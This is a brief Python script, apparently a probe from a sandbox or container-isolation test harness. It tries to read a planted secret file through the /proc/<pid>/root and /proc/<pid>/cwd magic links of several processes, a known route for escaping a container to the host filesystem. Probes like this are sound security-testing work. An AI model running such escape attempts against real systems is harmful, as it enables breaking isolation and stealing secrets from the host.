# Go through the magic links of /proc to the host's root.
import os

from attack_kit import BAIT, attempt, held, read_secret

for pid in ("self", "1", str(os.getppid()), str(BAIT["host"]), str(BAIT["victim"]), "thread-self"):
    for link in ("root", "cwd"):
        attempt(f"{pid}/{link}", read_secret, f"/proc/{pid}/{link}{BAIT['tmp_secret']}")
        attempt(f"{pid}/{link} relative", read_secret, f"/proc/{pid}/{link}/secret.txt")
held()
